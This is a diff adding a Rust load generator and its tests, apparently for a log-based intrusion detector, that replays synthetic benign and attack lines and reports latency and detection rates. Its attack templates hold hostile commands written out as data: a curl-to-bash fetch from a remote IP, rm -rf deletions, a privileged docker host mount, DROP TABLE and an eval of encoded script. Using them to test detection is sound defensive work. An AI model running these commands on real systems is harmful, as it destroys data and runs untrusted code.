@@ -0,0 +1,530 @@
+//! Load Generator - Production-Like Traffic Against a Running Kernel
+//!
+//! `tripwired loadgen --rate 5000/s --mix trading` connects to a running
+//! kernel the way an agent does (Unix socket / named pipe, or `--tcp`) and
+//! sends a synthetic log mix: benign lines of the domain, with attacks
+//! injected at `--attack-pct`. Run the kernel with `--ack`: every line's
+//! verdict then comes back on the connection, which gives the end-to-end
+//! latency (line written → verdict read) and the share of attacks answered
+//! with KILL or PAUSE:
+//!
+//! ```text
+//! Load test (trading mix, 5000 lines/s for 30s, 127.0.0.1:9999)
+//!   Sent: 150000 lines at 4999/s, 1512 attacks
+//!   Answered: 150000 (0 dropped, 0 errors, 0 unanswered)
+//!   Latency: p50 0.21ms, p90 0.48ms, p99 2.10ms, max 310.52ms
+//!   Attacks: p50 182.40ms, p90 251.03ms, p99 290.11ms, max 310.52ms
+//!   Detection: 1509/1512 attacks (99.8%)
+//!   False positives: 0/148488 benign lines (0.00%)
+//! ```
+//!
+//! The traffic is deterministic, so runs with the same options send the
+//! same lines. Without `--ack` only the achieved send rate is reported.
+
+use crate::bench;
+use crate::error::KernelError;
+use crate::report::{self, Percentiles};
+use serde::Deserialize;
+use std::time::Duration;
+use tokio::io::{AsyncBufReadExt, AsyncRead, AsyncWrite, AsyncWriteExt, BufReader};
+use tokio::sync::mpsc;
+use tokio::time::Instant;
+
+/// Log mix sent by `tripwired loadgen`
+#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
+pub enum Mix {
+    Trading,
+    Devops,
+    Generic,
+}
+
+impl Mix {
+    fn name(self) -> &'static str {
+        match self {
+            Self::Trading => "trading",
+            Self::Devops => "devops",
+            Self::Generic => "generic",
+        }
+    }
+
+    /// Benign templates, none matching the domain's preset
+    fn benign(self) -> &'static [&'static str] {
+        match self {
+            Self::Trading => &[
+                "User {n} logged in successfully",
+                "GET /api/v1/quotes/{n} 200 {n}ms",
+                "Balance updated to {n} USDT",
+                "Market data tick seq={n} spread 0.{n}",
+                "Heartbeat ok seq={n}",
+                "Risk snapshot {n} computed in {n}ms",
+            ],
+            Self::Devops => &[
+                "Health check passed for service-{n}",
+                "Pod api-{n} ready 1/1",
+                "Disk usage at {n} MB on /var/lib/app",
+                "Certificate for host-{n} valid for 60 days",
+                "Cron job backup-{n} completed",
+                "GET /healthz 200 {n}ms",
+            ],
+            Self::Generic => &[
+                "User {n} logged in successfully",
+                "Request {n} served in {n}ms",
+                "Cache hit ratio 0.{n}",
+                "Session {n} initialized",
+                "Worker {n} idle, queue depth {n}",
+                "Config reloaded from /etc/app/config.yaml",
+            ],
+        }
+    }
+
+    /// Attack templates, each matching an essential pattern or the preset
+    fn attacks(self) -> &'static [&'static str] {
+        match self {
+            Self::Trading => &[
+                "Order #{n} placed within 1ms",
+                "Leverage raised to 100x on position {n}",
+                "sudo rm -rf /var/lib/ledger-{n}",
+                "DROP TABLE positions_{n}",
+            ],
+            Self::Devops => &[
+                "kubectl delete pods --all -n prod-{n}",
+                "curl http://203.0.113.{n}/x.sh | bash",
+                "docker run --privileged -v /:/host img-{n}",
+                "Rollback of release {n} forced by agent",
+            ],
+            Self::Generic => &[
+                "sudo chmod 777 /etc/shadow-{n}",
+                "eval(atob('{n}'))",
+                "rm -rf /home/user{n}",
+                "ERROR: connection {n} failed",
+            ],
+        }
+    }
+}
+
+/// `tripwired loadgen` options
+#[derive(Debug, Clone)]
+pub struct LoadgenOptions {
+    /// Lines per second
+    pub rate: f64,
+    pub mix: Mix,
+    /// Share of attack lines (percent)
+    pub attack_pct: f64,
+    pub duration: Duration,
+    /// Connect to this loopback TCP port instead of the local endpoint
+    pub tcp_port: Option<u16>,
+    /// Unix socket / named pipe of the kernel
+    pub local_endpoint: String,
+    /// How long to wait for verdicts once everything is sent
+    pub drain: Duration,
+}
+
+/// Parse a rate like `5000/s`, `300/m` or `5000` (per second)
+pub fn parse_rate(s: &str) -> Result<f64, String> {
+    let (value, per) = match s.trim().split_once('/') {
+        Some((value, unit)) => match unit {
+            "s" => (value, 1.0),
+            "m" => (value, 60.0),
+            "h" => (value, 3600.0),
+            _ => return Err(format!("unknown rate unit '{}' (use /s, /m or /h)", unit)),
+        },
+        None => (s.trim(), 1.0),
+    };
+    match value.parse::<f64>() {
+        Ok(v) if v > 0.0 && v.is_finite() => Ok(v / per),
+        _ => Err(format!("invalid rate '{}'", s)),
+    }
+}
+
+/// One synthetic line
+#[derive(Debug, Clone, PartialEq)]
+pub struct Line {
+    pub text: String,
+    pub attack: bool,
+}
+
+/// Generate `count` lines of `mix`, attacks at `attack_pct` percent
+pub fn traffic(mix: Mix, attack_pct: f64, count: usize) -> Vec<Line> {
+    let mut next = bench::lcg(bench::SEED);
+    let threshold = (attack_pct * 100.0) as u64;
+    (0..count)
+        .map(|_| {
+            let attack = next() % 10_000 < threshold;
+            let templates = match attack {
+                true => mix.attacks(),
+                false => mix.benign(),
+            };
+            let template = templates[(next() as usize) % templates.len()];
+            let mut text = template.to_string();
+            while let Some(at) = text.find("{n}") {
+                text.replace_range(at..at + 3, &(next() % 10_000).to_string());
+            }
+            Line { text, attack }
+        })
+        .collect()
+}
+
+/// What came back for the lines sent
+#[derive(Debug, Default)]
+pub struct Tally {
+    pub sent: usize,
+    pub attacks: usize,
+    pub send_time: Duration,
+    /// Judged (SUSTAIN, KILL, PAUSE)
+    pub answered: usize,
+    /// Dropped by flow control
+    pub dropped: usize,
+    /// Not judged for another reason (REJECTED, PIPELINE_ERROR)
+    pub errors: usize,
+    /// Attacks answered with KILL or PAUSE
+    pub detected: usize,
+    /// Benign lines answered with KILL or PAUSE
+    pub false_positives: usize,
+    /// End-to-end latency of judged lines (microseconds)
+    pub latencies_us: Vec<u64>,
+    pub attack_latencies_us: Vec<u64>,
+}
+
+impl Tally {
+    fn unanswered(&self) -> usize {
+        self.sent - self.answered - self.dropped - self.errors
+    }
+}
+
+#[derive(Deserialize)]
+struct Ack {
+    id: u64,
+    action: String,
+}
+
+/// Send `lines` over `stream` at `rate` lines/s and read their acks
+pub async fn drive<S>(
+    stream: S,
+    lines: &[Line],
+    rate: f64,
+    drain: Duration,
+) -> Result<Tally, KernelError>
+where
+    S: AsyncRead + AsyncWrite + Send + 'static,
+{
+    let (reader, mut writer) = tokio::io::split(stream);
+    let (sends, sent_at) = mpsc::unbounded_channel();
+    let attacks: Vec<bool> = lines.iter().map(|l| l.attack).collect();
+    let acks = tokio::spawn(read_acks(BufReader::new(reader), sent_at, attacks, drain));
+
+    let start = Instant::now();
+    let mut sent = 0;
+    let mut batch = Vec::new();
+    while sent < lines.len() {
+        let due = ((start.elapsed().as_secs_f64() * rate) as usize).clamp(sent + 1, lines.len());
+        batch.clear();
+        for line in &lines[sent..due] {
+            batch.extend_from_slice(line.text.as_bytes());
+            batch.push(b'\n');
+        }
+        // Stamped before the write, so an ack never beats its stamp
+        let now = Instant::now();
+        for _ in sent..due {
+            let _ = sends.send(now);
+        }
+        writer.write_all(&batch).await?;
+        sent = due;
+        // Lines that fall due while asleep go out together on waking
+        tokio::time::sleep_until(start + Duration::from_secs_f64(sent as f64 / rate)).await;
+    }
+    writer.flush().await?;
+    let send_time = start.elapsed();
+    drop(sends);
+
+    let mut tally = acks.await.map_err(|e| e.to_string())?;
+    // Closing the write side only after the acks are in keeps them coming
+    let _ = writer.shutdown().await;
+    tally.sent = lines.len();
+    tally.attacks = lines.iter().filter(|l| l.attack).count();
+    tally.send_time = send_time;
+    Ok(tally)
+}
+
+/// Match acks to send stamps until every line is answered, the kernel
+/// hangs up, or `drain` has passed since the last line was sent
+async fn read_acks<R>(
+    reader: BufReader<R>,
+    mut sends: mpsc::UnboundedReceiver<Instant>,
+    attacks: Vec<bool>,
+    drain: Duration,
+) -> Tally
+where
+    R: AsyncRead + Unpin,
+{
+    let mut tally = Tally::default();
+    let mut stamps = Vec::with_capacity(attacks.len());
+    let mut acks = reader.lines();
+    let mut sending = true;
+    // Armed once the last line is sent
+    let deadline = tokio::time::sleep(drain);
+    tokio::pin!(deadline);
+
+    while tally.answered + tally.dropped + tally.errors < attacks.len() {
+        tokio::select! {
+            biased;
+            stamp = sends.recv(), if sending => match stamp {
+                Some(at) => stamps.push(at),
+                None => {
+                    sending = false;
+                    deadline.as_mut().reset(Instant::now() + drain);
+                }
+            },
+            line = acks.next_line() => {
+                let Ok(Some(line)) = line else { break };
+                let at = Instant::now();
+                while let Ok(stamp) = sends.try_recv() {
+                    stamps.push(stamp);
+                }
+                let Ok(ack) = serde_json::from_str::<Ack>(&line) else { continue };
+                let index = ack.id as usize;
+                if index == 0 || index > stamps.len() {
+                    continue;
+                }
+                let attack = attacks[index - 1];
+                match ack.action.as_str() {
+                    "SUSTAIN" | "KILL" | "PAUSE" | "FREEZE" | "CLAMP_CPU" | "CLAMP_MEMORY"
+                    | "RESTRICT" => {
+                        tally.answered += 1;
+                        let flagged = ack.action != "SUSTAIN";
+                        match (attack, flagged) {
+                            (true, true) => tally.detected += 1,
+                            (false, true) => tally.false_positives += 1,
+                            _ => {}
+                        }
+                        let us = at.duration_since(stamps[index - 1]).as_micros() as u64;
+                        tally.latencies_us.push(us);
+                        if attack {
+                            tally.attack_latencies_us.push(us);
+                        }
+                    }
+                    "DROPPED" => tally.dropped += 1,
+                    "HELLO" => {}
+                    _ => tally.errors += 1,
+                }
+            }
+            _ = &mut deadline, if !sending => break,
+        }
+    }
+    tally
+}
+
+/// `tripwired loadgen`
+pub async fn run(options: &LoadgenOptions) -> Result<(), KernelError> {
+    let count = (options.rate * options.duration.as_secs_f64()).round() as usize;
+    if count == 0 {
+        return Err("loadgen: --rate × --duration is less than one line".into());
+    }
+    let lines = traffic(options.mix, options.attack_pct, count);
+
+    let (target, tally) = match options.tcp_port {
+        Some(port) => {
+            let address = format!("127.0.0.1:{}", port);
+            let stream = tokio::net::TcpStream::connect(&address)
+                .await
+                .map_err(|e| format!("Cannot connect to {}: {}", address, e))?;
+            stream.set_nodelay(true)?;
+            let tally = drive(stream, &lines, options.rate, options.drain).await?;
+            (address, tally)
+        }
+        None => {
+            let path = options.local_endpoint.clone();
+            #[cfg(unix)]
+            let stream = tokio::net::UnixStream::connect(&path).await;
+            #[cfg(windows)]
+            let stream = tokio::net::windows::named_pipe::ClientOptions::new().open(&path);
+            let stream = stream.map_err(|e| format!("Cannot connect to {}: {}", path, e))?;
+            let tally = drive(stream, &lines, options.rate, options.drain).await?;
+            (path, tally)
+        }
+    };
+    print!("{}", render(options, &target, &tally));
+    Ok(())
+}
+
+fn render(options: &LoadgenOptions, target: &str, tally: &Tally) -> String {
+    let mut out = format!(
+        "Load test ({} mix, {} lines/s for {}s, {})\n",
+        options.mix.name(),
+        options.rate,
+        options.duration.as_secs_f64(),
+        target
+    );
+    out += &format!(
+        "  Sent: {} lines at {:.0}/s, {} attacks\n",
+        tally.sent,
+        tally.sent as f64 / tally.send_time.as_secs_f64().max(1e-9),
+        tally.attacks
+    );
+    if tally.answered + tally.dropped + tally.errors == 0 {
+        out += "  No verdicts came back - run the kernel with --ack to measure latency and detection\n";
+        return out;
+    }
+    out += &format!(
+        "  Answered: {} ({} dropped, {} errors, {} unanswered)\n",
+        tally.answered,
+        tally.dropped,
+        tally.errors,
+        tally.unanswered()
+    );
+    if let Some(p) = report::percentiles(tally.latencies_us.clone()) {
+        out += &format!("  Latency: {}\n", latency(&p));
+    }
+    if let Some(p) = report::percentiles(tally.attack_latencies_us.clone()) {
+        out += &format!("  Attacks: {}\n", latency(&p));
+    }
+    out += &format!(
+        "  Detection: {}/{} attacks ({:.1}%)\n",
+        tally.detected,
+        tally.attacks,
+        pct(tally.detected, tally.attacks)
+    );
+    let benign = tally.sent - tally.attacks;
+    out += &format!(
+        "  False positives: {}/{} benign lines ({:.2}%)\n",
+        tally.false_positives,
+        benign,
+        pct(tally.false_positives, benign)
+    );
+    out
+}
+
+/// Microsecond percentiles in milliseconds
+fn latency(p: &Percentiles) -> String {
+    let ms = |us: u64| us as f64 / 1000.0;
+    format!(
+        "p50 {:.2}ms, p90 {:.2}ms, p99 {:.2}ms, max {:.2}ms",
+        ms(p.p50),
+        ms(p.p90),
+        ms(p.p99),
+        ms(p.max)
+    )
+}
+
+fn pct(part: usize, total: usize) -> f64 {
+    match total {
+        0 => 0.0,
+        _ => part as f64 * 100.0 / total as f64,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::filter::{Filter, FilterConfig};
+    use tokio::io::{AsyncBufReadExt, AsyncWriteExt};
+
+    #[test]
+    fn test_traffic_mix() {
+        assert_eq!(parse_rate("5000/s"), Ok(5000.0));
+        assert_eq!(parse_rate("600/m"), Ok(10.0));
+        assert_eq!(parse_rate("250"), Ok(250.0));
+        assert!(parse_rate("0/s").is_err());
+        assert!(parse_rate("5/d").is_err());
+
+        for mix in [Mix::Trading, Mix::Devops, Mix::Generic] {
+            let lines = traffic(mix, 2.0, 5000);
+            assert_eq!(lines, traffic(mix, 2.0, 5000)); // deterministic
+            let attacks = lines.iter().filter(|l| l.attack).count();
+            assert!((50..150).contains(&attacks), "{} attacks", attacks);
+
+            // Benign lines stay under the domain's filter, attacks do not
+            let filter = Filter::new(&FilterConfig {
+                domain: Some(mix.name().to_string()),
+                ..Default::default()
+            })
+            .unwrap();
+            for line in &lines {
+                assert!(!line.text.contains("{n}"));
+                assert_eq!(filter.is_suspicious(&line.text), line.attack, "{:?}", line);
+            }
+        }
+    }
+
+    #[tokio::test]
+    async fn test_drive_tallies_acks() {
+        // A kernel stand-in that kills attacks and one benign line in ten,
+        // drops nothing and answers the last line as DROPPED
+        let (client, server) = tokio::io::duplex(64 * 1024);
+        let lines = traffic(Mix::Trading, 10.0, 200);
+        let expected = lines.clone();
+        tokio::spawn(async move {
+            let (reader, mut writer) = tokio::io::split(server);
+            let mut reader = BufReader::new(reader).lines();
+            let mut id = 0;
+            while let Ok(Some(line)) = reader.next_line().await {
+                id += 1;
+                let action = match (id, expected[id - 1].attack) {
+                    (200, _) => "DROPPED",
+                    (_, true) => "KILL",
+                    _ if id % 10 == 0 => "PAUSE",
+                    _ => "SUSTAIN",
+                };
+                assert_eq!(line, expected[id - 1].text);
+                let ack = format!("{{\"id\":{},\"action\":\"{}\"}}\n", id, action);
+                writer.write_all(ack.as_bytes()).await.unwrap();
+            }
+        });
+
+        let tally = drive(client, &lines, 20_000.0, Duration::from_secs(5))
+            .await
+            .unwrap();
+        let attacks = lines.iter().filter(|l| l.attack).count();
+        let last_attack = lines[199].attack as usize;
+        assert_eq!((tally.sent, tally.attacks), (200, attacks));
+        assert_eq!(
+            (tally.answered, tally.dropped, tally.unanswered()),
+            (199, 1, 0)
+        );
+        assert_eq!(tally.detected, attacks - last_attack);
+        assert_eq!(tally.latencies_us.len(), 199);
+        assert_eq!(tally.attack_latencies_us.len(), tally.detected);
+        let benign_paused = (1..200)
+            .filter(|id| id % 10 == 0 && !lines[id - 1].attack)
+            .count();
+        assert_eq!(tally.false_positives, benign_paused);
+
+        let options = LoadgenOptions {
+            rate: 20_000.0,
+            mix: Mix::Trading,
+            attack_pct: 10.0,
+            duration: Duration::from_millis(10),
+            tcp_port: None,
+            local_endpoint: String::new(),
+            drain: Duration::from_secs(5),
+        };
+        let report = render(&options, "test", &tally);
+        assert!(report.contains("Answered: 199 (1 dropped, 0 errors, 0 unanswered)"));
+        assert!(report.contains(&format!(
+            "Detection: {}/{} attacks",
+            tally.detected, attacks
+        )));
+    }
+
+    #[tokio::test]
+    async fn test_drive_without_acks() {
+        // A kernel without --ack: everything sent, nothing answered
+        let (client, server) = tokio::io::duplex(64 * 1024);
+        let reader = tokio::spawn(async move {
+            let mut lines = BufReader::new(server).lines();
+            let mut n = 0;
+            while let Ok(Some(_)) = lines.next_line().await {
+                n += 1;
+            }
+            n
+        });
+        let lines = traffic(Mix::Generic, 1.0, 50);
+        let tally = drive(client, &lines, 50_000.0, Duration::from_millis(50))
+            .await
+            .unwrap();
+        assert_eq!(
+            (tally.sent, tally.answered, tally.unanswered()),
+            (50, 0, 50)
+        );
+        assert_eq!(reader.await.unwrap(), 50);
+    }
+}